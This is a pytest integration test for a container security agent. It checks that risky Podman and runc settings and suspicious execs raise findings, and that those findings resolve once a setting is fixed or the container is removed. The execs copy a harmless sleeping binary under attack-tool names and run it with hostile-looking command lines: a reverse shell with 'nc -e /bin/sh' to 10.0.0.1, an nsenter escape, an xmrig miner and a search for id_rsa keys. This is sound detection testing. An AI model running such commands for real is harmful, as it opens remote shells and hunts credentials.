# SPDX-License-Identifier: Apache-2.0
"""The rule engine against real containers and the real agent: Podman
containers (with Podman's Docker-compatible API) and a runc container with
risky settings raise each posture rule class; execs into them raise each
runtime rule class; the evidence of every finding is a stored event of the
container; a fixed setting and a removed container resolve them; hardened
containers raise nothing."""

import os

import pytest

import vigiltest as vt
from agent_fixtures import *  # noqa: F401,F403 (fixtures)
from agent_fixtures import PODMAN_RUN, need, run

# A program that stays alive a second, whatever its name and arguments: the
# agent reads an exec's /proc entry when the kernel reports it, and busybox
# under a name that is not an applet would exit at once.
LINGER_C = r"""
#include <unistd.h>
int main(void) { usleep(1500000); return 0; }
"""


@pytest.fixture(scope="module")
def linger(workdir):
    need("gcc")
    src = os.path.join(workdir, "linger.c")
    out = os.path.join(workdir, "linger")
    if not os.path.exists(out):
        with open(src, "w") as f:
            f.write(LINGER_C)
        run(["gcc", "-static", "-O1", "-o", out, src], timeout=120)
    return out


@pytest.fixture(scope="module")
def coll(module_collector_factory, module_db):
    return module_collector_factory(module_db)


def findings_of(db, cid, state=None):
    rows = db.query(
        "SELECT rule, key, state, resolved_reason, evidence_seq, evidence_idx, agent_id "
        "FROM findings WHERE container_id = %s" + (" AND state = %s" if state else ""),
        (cid, state) if state else (cid,))
    return {(r[0], r[1]): r[2:] for r in rows}


def wait_findings(db, cid, want, timeout=40):
    """Wait until every (rule, key) in WANT (key None: any) is open for CID."""
    def have():
        got = findings_of(db, cid)
        missing = [w for w in want
                   if not any(k[0] == w[0] and (w[1] is None or k[1] == w[1])
                              and v[0] != "resolved" for k, v in got.items())]
        return not missing
    try:
        vt.wait_for(have, timeout, what="findings %s" % (want,))
    except AssertionError:
        raise AssertionError("findings of %s: %s" % (cid[:12], sorted(findings_of(db, cid))))
    return findings_of(db, cid)


def assert_evidence(db, cid, found):
    """Every finding's evidence is a stored event of its agent that is about
    the container (its own id, or an inventory that lists it)."""
    for (rule, key), (state, _, seq, idx, agent_id) in found.items():
        row = db.query("SELECT kind, container_id, details::text FROM events "
                       "WHERE agent_id = %s AND seq = %s AND idx = %s", (agent_id, seq, idx))
        assert len(row) == 1, (rule, key, seq, idx)
        kind, ev_cid, details = row[0]
        assert ev_cid == cid or (details and cid in details), (rule, key, kind)


def podman_digest(image):
    return run(["podman", "image", "inspect", "--format", "{{.Digest}}", image]).stdout.strip()


HARDENED = ["--user", "1000:1000", "--cap-drop", "ALL", "--read-only",
            "--security-opt", "no-new-privileges", "--memory", "64m", "--pids-limit", "50"]


def test_podman_posture_runtime_and_resolution(coll, module_db, agent_factory, podman,
                                               podman_api, podman_image, linger, workdir):
    need("podman")
    db = module_db
    sock_dir = os.path.join(workdir, "fake-run")
    os.makedirs(sock_dir, exist_ok=True)
    fake_sock = os.path.join(sock_dir, "docker.sock")
    open(fake_sock, "w").close()
    pinned = "%s@%s" % (podman_image.split(":")[0], podman_digest(podman_image))

    risky = podman.run("vr-risky", ["sleep", "1000"], [
        "--privileged", "--pid", "host", "-v", "/etc:/host-etc",
        "-v", "%s:/var/run/docker.sock" % fake_sock,
        "--mount", "type=tmpfs,destination=/dev/shm,tmpfs-mode=1777"])
    capsy = podman.run("vr-caps", ["sleep", "1000"],
                       ["--cap-add", "SYS_ADMIN", "--cap-add", "NET_ADMIN"])
    hardened = _run_pinned(podman, "vr-hard", pinned)

    # a removed container is gone once a full inventory leaves it out
    agent_factory(coll, "rules-podman", docker_socket=podman_api.sock, snapshot_interval="2s")

    found = wait_findings(db, risky, [
        ("privileged", ""), ("host_pid", ""), ("sensitive_mount", "/etc"),
        ("runtime_socket", fake_sock), ("image_mutable_tag", None)])
    assert_evidence(db, risky, found)
    assert not [k for k in found if k[0] == "cap_added"]  # privileged says it all
    caps = wait_findings(db, capsy, [("cap_added", "SYS_ADMIN"), ("cap_added", "NET_ADMIN")])
    assert ("cap_added", "CHOWN") not in caps
    assert_evidence(db, capsy, caps)

    # The hardened container: known to the collector, and no finding at all.
    vt.wait_for(lambda: db.scalar("SELECT state FROM containers WHERE id = %s",
                                  (hardened,)) == "running", 30, what="hardened container")
    vt.wait_for(lambda: db.scalar("SELECT rules_unknown IS NOT NULL FROM containers "
                                  "WHERE id = %s", (hardened,)), 30, what="judged")
    assert findings_of(db, hardened) == {}, findings_of(db, hardened)

    # Runtime rules: execs into the risky container.
    run(["podman", "cp", linger, "vr-risky:/usr/bin/linger"])
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /tmp/xmrig && /tmp/xmrig --donate-level 1")
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /root/nsenter && /root/nsenter -t 1 -m")
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /dev/shm/true && /dev/shm/true")
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /root/apk && /root/apk add curl")
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /tmp/nc && /tmp/nc -e /bin/sh 10.0.0.1 4444")
    podman.exec("vr-risky", "sh", "-c",
                "cp /usr/bin/linger /root/find && /root/find / -name id_rsa")
    podman.exec("vr-risky", "/usr/bin/memfd-sleep", "1")
    run(["podman", "exec", "-t", "vr-risky", "sh", "-c", "sleep 1; true"])  # no exec of sleep
    run(["podman", "exec", "--user", "1000", "vr-risky", "/usr/bin/suid-root"], check=False)
    rt = wait_findings(db, risky, [
        ("crypto_miner", "xmrig"), ("exec_from_tmp", "/tmp/xmrig"),
        ("escape_tool", "nsenter"), ("drift", "/root/nsenter"),
        ("exec_from_tmp", "/dev/shm/true"), ("package_manager", "apk"),
        ("reverse_shell", "nc"), ("credential_search", "find"),
        ("fileless_exec", None), ("terminal_shell", "sh"), ("exec_session", ""),
        ("setuid_root", None)])
    assert_evidence(db, risky, {k: v for k, v in rt.items() if k[0] in (
        "crypto_miner", "escape_tool", "drift", "fileless_exec", "setuid_root")})

    # A setting fixed: a memory limit on the capable container.
    assert findings_of(db, capsy).get(("no_memory_limit", ""), ("x",))[0] != "resolved"
    run(["podman", "update", "--memory", "64m", "vr-caps"])
    vt.wait_for(lambda: findings_of(db, capsy)[("no_memory_limit", "")][:2]
                == ("resolved", "setting fixed"), 40, what="no_memory_limit fixed")
    assert findings_of(db, capsy)[("cap_added", "SYS_ADMIN")][0] == "open"

    # Removed: every finding of the risky container resolved.
    run(["podman", "rm", "-f", "-t", "0", "vr-risky"], timeout=120)
    vt.wait_for(lambda: {v[0] for v in findings_of(db, risky).values()} == {"resolved"}, 60,
                what="findings of the removed container resolved")
    assert {v[1] for v in findings_of(db, risky).values()} <= {"container removed",
                                                               "setting fixed"}


def _run_pinned(podman, name, pinned):
    """podman.run with an image referenced by digest (the fixture's image
    is a tag)."""
    podman.names.append(name)
    r = run(["podman", "run", "-d", "--name", name] + PODMAN_RUN + HARDENED
            + [pinned, "sleep", "1000"], timeout=120)
    return r.stdout.strip().splitlines()[-1]


def test_runc_posture_runtime_and_removal(coll, module_db, agent_factory, runc_factory,
                                          linger):
    need("runc")
    db = module_db

    def host_pid(cfg):
        cfg["linux"]["namespaces"] = [n for n in cfg["linux"]["namespaces"]
                                      if n["type"] != "pid"]
    # the root file system is read-only and shared: the lingering program
    # comes in as a bind mount on the container's /tmp
    c = runc_factory(["sleep", "1000"], caps=["CAP_SYS_ADMIN"],
                     mounts=[("/etc", "/host-etc", False), (linger, "/tmp/find", True)],
                     spec_edit=host_pid).start()
    agent_factory(coll, "rules-runc", snapshot_interval="2s")
    found = wait_findings(db, c.id, [("cap_added", "SYS_ADMIN"), ("sensitive_mount", "/etc"),
                                     ("host_pid", "")])
    assert_evidence(db, c.id, found)
    assert db.scalar("SELECT runtime FROM containers WHERE id = %s", (c.id,)) == "runc"
    c.exec("/tmp/find", "/", "-name", "id_rsa")
    wait_findings(db, c.id, [("credential_search", "find"), ("exec_from_tmp", "/tmp/find"),
                             ("exec_session", "")])

    c.kill("KILL")
    c.wait_stopped()
    c.remove()
    vt.wait_for(lambda: {v[0] for v in findings_of(db, c.id).values()} == {"resolved"}, 60,
                what="findings of the removed runc container resolved")
    assert {v[1] for v in findings_of(db, c.id).values()} == {"container removed"}
